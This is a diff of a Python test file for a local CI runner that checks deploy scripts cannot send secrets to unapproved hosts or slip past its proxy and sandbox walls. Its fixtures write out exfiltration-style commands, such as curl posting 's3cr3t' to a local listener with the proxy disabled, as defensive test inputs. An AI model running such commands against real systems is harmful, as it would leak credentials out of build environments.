@@ -28,6 +28,9 @@ DEPLOY = "deploy:\n  provider: script\n  on: main\n  script: "
 REAL = "pypi-" + Macaroon(location="pypi.org", identifier=str(uuid.uuid4()), key="no key",
                           version=MACAROON_V2).serialize()  # fmt: skip
 
+SANDBOX = Words("en", "sandbox")
+UPSTREAM = "https://upstream.practice.invalid/"
+
 
 class Listener:
     """A host that the practice index does not play; ``heard`` is what reached it."""
@@ -49,7 +52,8 @@ class Listener:
                 pass
 
         self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
+        self.name = f"127.0.0.1:{self.server.server_address[1]}"
+        self.url = f"http://{self.name}/"
         threading.Thread(target=self.server.serve_forever, daemon=True).start()
 
 
@@ -73,21 +77,21 @@ def summary(log: str) -> str:
 @pytest.mark.long
 def test_another_host_is_refused_and_the_summary_says_how_to_allow_it(tmp_path, travis, listener):  # noqa: F811
     text = f"{HEAD}{DEPLOY}curl --silent --data s3cr3t {listener.url}\n"
-    done = travis(project(tmp_path / "demo", text))
+    done = travis(project(tmp_path / "demo", text), "--wall", "none")
     assert listener.heard == []
-    assert EN("will_refuse", job="1.1", host="127.0.0.1") in done.stdout
-    assert f"    {EN('host_refused', host='127.0.0.1')}\n" in summary(done.stdout)
+    assert EN("will_refuse", job="1.1", host=listener.name) in done.stdout
+    assert f"    {EN('host_refused', host=listener.name)}\n" in summary(done.stdout)
     assert EN("nothing_published") in summary(done.stdout)
 
 
 @pytest.mark.long
 def test_a_host_that_is_allowed_is_reached_and_the_summary_says_so(tmp_path, travis, listener):  # noqa: F811
     text = f"{HEAD}{DEPLOY}curl --silent --data s3cr3t {listener.url}\n"
-    done = travis(project(tmp_path / "demo", text), "--allow-host", "127.0.0.1", "--lang", "es")
+    done = travis(project(tmp_path / "demo", text), "--allow-host", listener.name, "--lang", "es")
     assert done.returncode == 0, done.stdout
     assert listener.heard == ["s3cr3t"]
-    assert ES("will_reach", job="1.1", host="127.0.0.1") in done.stdout
-    assert f"    {ES('host_reached', host='127.0.0.1')}\n" in summary(done.stdout)
+    assert ES("will_reach", job="1.1", host=listener.name) in done.stdout
+    assert f"    {ES('host_reached', host=listener.name)}\n" in summary(done.stdout)
     assert ES("nothing_published") not in summary(done.stdout)
 
 
@@ -126,33 +130,54 @@ def test_a_pypi_deploy_to_another_server_is_refused(tmp_path, travis, listener):
     )
     folder = project(tmp_path / "demo", text)
     path = f"{tool.parent}{os.pathsep}{os.environ['PATH']}"
-    done = travis(folder, "--var", "TOKEN=s3cr3t-value", PATH=path)
+    done = travis(folder, "--wall", "none", "--var", "TOKEN=s3cr3t-value", PATH=path)
     assert done.returncode == 1, done.stdout
     assert "Uploading distributions to" in done.stdout
     assert listener.heard == []
-    assert EN("host_refused", host="127.0.0.1") in summary(done.stdout)
+    assert EN("host_refused", host=listener.name) in summary(done.stdout)
     assert EN("nothing_published") in summary(done.stdout)
 
 
 @pytest.mark.long
-def test_an_index_to_install_from_takes_no_upload_that_a_deploy_names(tmp_path, travis, listener):  # noqa: F811
+@pytest.mark.parametrize("wall", ["bubblewrap", "namespace", "landlock"])
+def test_a_command_past_the_proxy_reaches_nothing(wall, tmp_path, travis, listener):  # noqa: F811
+    text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
+    done = travis(project(tmp_path / "demo", text), "--wall", wall)
+    assert listener.heard == []
+    assert done.returncode == 1
+    assert EN("nothing_published") in summary(done.stdout)
+
+
+@pytest.mark.long
+def test_without_a_wall_the_log_and_the_summary_say_so(tmp_path, travis, listener):  # noqa: F811
+    text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
+    done = travis(project(tmp_path / "demo", text), "--wall", "none")
+    assert listener.heard == ["s3cr3t"]
+    said = SANDBOX("no_wall_job", reasons="--wall none")
+    assert done.stdout.count(said) == 2
+    assert said in summary(done.stdout)
+
+
+@pytest.mark.long
+def test_an_index_to_install_from_takes_no_upload(tmp_path, travis, listener):  # noqa: F811
+    """Not even from a program that knows its address: only the practice index asks it, by GET."""
     there = {"PYPI_PRACTICE_UPSTREAM": f"{listener.url}simple/"}
-    folder = project(tmp_path / "demo", f"{HEAD}{DEPLOY}curl --silent --data a {listener.url}\n")
+    posts = [f"curl --silent --data a {url}" for url in (UPSTREAM, listener.url)]
+    folder = project(tmp_path / "demo", f"{HEAD}{DEPLOY}{' ; '.join(posts)}\n")
     done = travis(folder, **there)
     assert listener.heard == []
-    assert EN("host_refused", host="127.0.0.1") in summary(done.stdout)
-    text = f"language: python\ninstall: skip\nscript: curl --silent {listener.url}\n"
+    text = f"language: python\ninstall: skip\nscript: curl --silent {UPSTREAM}\n"
     done = travis(project(tmp_path / "other", text), **there)
+    assert done.returncode == 0
     assert listener.heard == [""]
-    assert EN("host_installs", host="127.0.0.1") in summary(done.stdout)
 
 
 @pytest.mark.long
 def test_what_the_shell_around_has_set_leads_no_job_elsewhere(tmp_path, travis, listener):  # noqa: F811
     folder = project(tmp_path / "demo", f"{HEAD}{DEPLOY}curl --silent --data a {listener.url}\n")
-    done = travis(folder, NO_PROXY="*", no_proxy="*", ALL_PROXY=listener.url)
+    done = travis(folder, "--wall", "none", NO_PROXY="*", no_proxy="*", ALL_PROXY=listener.url)
     assert listener.heard == []
-    assert EN("host_refused", host="127.0.0.1") in summary(done.stdout)
+    assert EN("host_refused", host=listener.name) in summary(done.stdout)
 
 
 @pytest.mark.parametrize("host", ["index.example.org", "Index.Example.Org.", "127.0.0.1", "[::1]",
@@ -173,7 +198,7 @@ def test_a_host_that_is_none_gets_a_sentence(host, tmp_path, travis):  # noqa: F
     if host in ("https://a.example", "\x1b[2J", ""):
         done = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
         assert done.returncode == 2
-        assert EN("bad_host", host=host.replace("\x1b", "?")) in done.stdout
+        assert SANDBOX("host_name", host=ascii(host)) in done.stdout
         assert "\x1b" not in done.stdout
 
 
@@ -182,7 +207,7 @@ def test_a_host_that_is_none_gets_a_sentence(host, tmp_path, travis):  # noqa: F
 def test_pypi_cannot_be_allowed(host, tmp_path, travis):  # noqa: F811
     done = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
     assert done.returncode == 2
-    assert EN("host_of_pypi", host=host) in done.stdout
+    assert SANDBOX("host_protected", host=host.lower().rstrip(".")) in done.stdout
 
 
 def _job(text: str) -> plan.Job:
@@ -210,7 +235,7 @@ def _job(text: str) -> plan.Job:
 )  # fmt: skip
 def test_a_plan_names_foreign_hosts(deploy, hosts):
     job = _job(f"env: WHERE=here.example\nscript: a\ndeploy: {deploy}\n")
-    assert destinations.foreign_hosts(job, job.deploys[0]) == hosts
+    assert [host for host, _ in destinations.foreign_targets(job, job.deploys[0])] == hosts
 
 
 @pytest.mark.long
